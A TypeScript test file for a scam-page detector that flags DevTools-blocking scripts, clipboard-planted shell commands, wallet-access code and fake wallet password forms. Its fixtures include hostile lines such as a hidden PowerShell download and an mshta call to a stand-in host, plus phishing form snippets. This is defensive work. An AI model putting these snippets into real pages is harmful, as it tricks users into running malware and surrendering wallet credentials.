import { describe, expect, it } from 'vitest';
import { readHtml } from '@/lib/sites/html.ts';

const URL_HERE = 'https://larkspur.example/claim';
const signsOf = (body: string, head = '') =>
  readHtml(`<!doctype html><html><head>${head}</head><body><p>Some words.</p>${body}</body></html>`, { url: URL_HERE })
    .signs;
const script = (code: string) => signsOf(`<script>${code}</script>`);

describe('code that keeps people from the source', () => {
  it.each([
    ['menu', "document.addEventListener('contextmenu', (event) => event.preventDefault());"],
    ['menu', 'document.oncontextmenu = function () { return false; };'],
    ['keys', 'onkeydown = (e) => { if (e.keyCode == 123) { return false; } };'],
    ['keys', "addEventListener('keydown', (e) => { if (e.key === 'F12') e.preventDefault(); });"],
    ['keys', "if (e.ctrlKey && e.shiftKey && (e.key === 'I')) { e.preventDefault(); }"],
    ['debugger', 'setInterval(() => { debugger; }, 50);'],
    ['debugger', '(function stop() { (() => {}).constructor("debugger")(); stop(); })();'],
  ])('sees %s in %s', (what, code) => {
    expect(script(code).inspection).toContain(what);
  });

  it.each([
    "addEventListener('keydown', (e) => { if (e.key === 'F1') openHelp(); });",
    "menu.addEventListener('contextmenu', openOwnMenu);",
    'const text = "the debugger of a browser";',
    'if (e.keyCode === 13) submit();',
  ])('sees none in %s', (code) => {
    expect(script(code).inspection).toEqual([]);
  });

  it('reads the attribute of the page and the file names of such libraries', () => {
    expect(readHtml('<body oncontextmenu="return false"><p>x</p></body>', { url: URL_HERE }).signs.inspection).toEqual([
      'menu',
    ]);
    expect(signsOf('<script src="/js/disable-devtool.min.js"></script>').inspection).toEqual(['debugger']);
  });

  it('looks only at the start of what is there', () => {
    const late = `${'let a = 1;\n'.repeat(4_000)}setInterval(() => { debugger; }, 50);`;
    expect(script(late).inspection).toEqual([]);
  });
});

describe('a command on the clipboard', () => {
  it.each([
    'button.onclick = () => navigator.clipboard.writeText("powershell -w hidden -c iwr");',
    "copy(); document.execCommand('copy'); const line = 'mshta https://larkspur.example/x';",
    'navigator.clipboard.writeText(`cmd /c start calc`);',
  ])('is seen in %s', (code) => expect(script(code).clipboard).toMatch(/^(?:powershell|mshta|cmd)/));

  it.each([
    'navigator.clipboard.writeText(location.href);',
    'const shell = "powershell -c x";',
    'navigator.clipboard.writeText("npm install larkspur");',
  ])('is not seen in %s', (code) => expect(script(code).clipboard).toBeUndefined());

  it('is seen in an attribute for it', () => {
    expect(signsOf('<button data-clipboard-text="powershell -w hidden">Verify</button>').clipboard).toContain('power');
  });
});

describe('code that can reach a wallet', () => {
  it.each([
    ['seen', '<script>window.ethereum.request({ method: "eth_chainId" })</script>'],
    ['seen', '<script src="/vendor/ethers.umd.js"></script>'],
    ['not-seen', '<p>No script.</p>'],
    ['not-seen', '<script src="https://cdn.example/jquery-3.7.min.js"></script><script>$("a").hide();</script>'],
    ['not-seen', '<script type="application/ld+json">{"name": "ethereum"}</script>'],
    [undefined, '<script src="/assets/index-4f2a.js"></script>'],
    [undefined, '<script>import("./chunk.js")</script>'],
    [undefined, '<script>const s = document.createElement("script"); s.src = x;</script>'],
  ])('%s: %s', (state, body) => expect(signsOf(body).web3Code).toBe(state));
});

describe("a form under a wallet's name", () => {
  const form = (inside: string) => signsOf(`<div class="modal"><div>${inside}</div></div>`).walletForm;

  it.each([
    ['MetaMask', '<h2>MetaMask</h2><p>Welcome back</p><input type="password" placeholder="Password">'],
    ['Phantom', '<img alt="Phantom" src="p.svg"><label>Password <input type="password"></label>'],
    ['Trust Wallet', '<img src="/img/trust-wallet.png"><input type="password" name="pin">'],
  ])('%s', (brand, inside) => expect(form(inside)?.brand).toBe(brand));

  it('names its field', () => {
    expect(form('<h2>MetaMask</h2><label>Password <input type="password" name="p"></label>')?.field).toBe('Password');
  });

  it.each([
    '<h2>Sign in</h2><input type="email" name="email"><input type="password"><button>MetaMask</button>',
    '<h2>Sign in</h2><input name="user"><input type="password"><button>Phantom</button>',
    '<h2>Sign in</h2><input type="password">',
    '<h2>MetaMask</h2><p>Install it from its own site.</p>',
    `<h2>MetaMask</h2><p>${'Long words about wallets. '.repeat(40)}</p><div><div><input type="password"></div></div>`,
  ])('none in %s', (inside) => expect(form(inside)).toBeUndefined());

  it("none on the maker's own domain", () => {
    const body = '<body><div><h2>MetaMask</h2><input type="password"></div></body>';
    expect(readHtml(body, { url: 'https://portfolio.metamask.io/' }).signs.walletForm).toBeUndefined();
    expect(readHtml(body, { url: 'https://metamask.io.larkspur.example/' }).signs.walletForm?.brand).toBe('MetaMask');
  });
});
